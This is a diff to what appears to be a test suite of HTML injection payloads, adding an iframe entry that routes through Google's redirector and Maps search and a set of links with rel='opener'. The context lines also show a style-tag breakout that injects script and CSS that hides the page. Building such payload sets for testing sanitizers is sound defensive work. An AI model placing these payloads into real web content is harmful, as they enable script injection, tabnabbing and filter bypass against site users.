@@ -136,6 +136,20 @@ export const HTML_PAYLOADS: { id: string; family: string; make: Make }[] = [
     family: 'iframe',
     make: (t, r) => `<object data="${r}/object/${t}"></object><embed src="${r}/embed/${t}">`,
   },
+  {
+    id: 'X52',
+    family: 'iframe',
+    // An allowed host, but not its map: Google's redirector and its search.
+    make: (t, r) =>
+      `<iframe src="https://www.google.com/url?q=${r}/frame/${t}"></iframe><iframe src="https://maps.google.com/search?q=${t}"></iframe>`,
+  },
+  // Links that hand the other site our window (window.opener)
+  {
+    id: 'X53',
+    family: 'opener',
+    make: (t, r) =>
+      `<a href="${r}/opener/${t}" target="_BLANK" rel="opener">${t} new tab</a> <a href="${r}/opener/${t}" target="plaza" rel="OPENER nofollow">${t} named window</a> <a href="${r}/opener/${t}" rel="opener">${t} same tab</a>`,
+  },
   // <style> breakouts and CSS
   { id: 'X35', family: 'style', make: () => `<style>body,main,header{display:none!important}</style>` },
   { id: 'X36', family: 'style', make: (t, r) => `</style><script>${js(t, r)}</script>` },
